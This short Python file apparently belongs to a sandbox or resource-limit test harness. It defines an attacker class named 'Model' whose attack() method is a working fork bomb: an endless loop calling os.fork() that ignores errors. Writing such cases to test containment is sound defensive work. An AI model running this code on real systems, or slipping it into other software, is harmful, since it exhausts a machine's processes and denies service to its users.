"""Forks without end."""

import os


from lib import BAIT, Attacker, attempt, loot, read  # noqa: F401


class Model(Attacker):
    def attack(self):
        while True:
            try:
                os.fork()
            except OSError:
                pass
